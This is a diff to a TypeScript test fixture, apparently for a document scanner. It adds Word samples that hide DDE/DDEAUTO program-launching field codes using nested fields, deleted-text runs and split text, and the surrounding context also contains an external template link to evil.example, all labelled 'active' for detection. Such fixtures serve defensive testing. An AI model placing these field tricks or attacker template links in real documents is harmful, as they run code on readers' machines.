@@ -26,6 +26,10 @@ const related = (items: string | Buffer, part = 'document') =>
 const external = (type: string, target: string) =>
   related(relationship(type, target, 'TargetMode="External"'), 'settings')
 const elements = (content: string) => docx({ 'word/document.xml': wordXml(content) })
+const field = (content: string) =>
+  elements(
+    `<w:fldChar w:fldCharType="begin"/>${content}<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/>`,
+  )
 const template = relationship('attachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="External"')
 
 /** Word documents with macros, other files and links in them, in every spelling that Word follows. */
@@ -164,6 +168,35 @@ export function activeDocx(round = 0): HostileCvs {
     'a field whose word another field writes': [
       elements(
         '<w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 69 65</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> c:\\a</w:instrText><w:fldChar w:fldCharType="end"/>',
+      ),
+      'active',
+    ],
+    'a field whose word a simple field writes': [
+      field(
+        '<w:instrText> DD</w:instrText><w:fldSimple w:instr="QUOTE 69"><w:r/></w:fldSimple><w:instrText>AUTO a</w:instrText>',
+      ),
+      'active',
+    ],
+    'a field that starts a program, deleted': [
+      field('<w:delInstrText>DDEAUTO</w:delInstrText><w:delInstrText> a</w:delInstrText>'),
+      'active',
+    ],
+    'a field that starts a program, deleted in part': [
+      field(
+        oneOf(
+          '<w:instrText>DD</w:instrText><w:delInstrText>EAUTO a</w:delInstrText>',
+          '<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO a</w:instrText>',
+        ),
+      ),
+      'active',
+    ],
+    'a field that starts a program, as text': [field('<w:t>DDE</w:t><w:t>AUTO a</w:t>'), 'active'],
+    'a field that starts a program, behind a text': [
+      field(
+        oneOf(
+          '<w:t>PAGE </w:t><w:instrText>DDE a</w:instrText>',
+          '<w:t>PAGE </w:t><w:delInstrText>DDE a</w:delInstrText>',
+        ),
       ),
       'active',
     ],
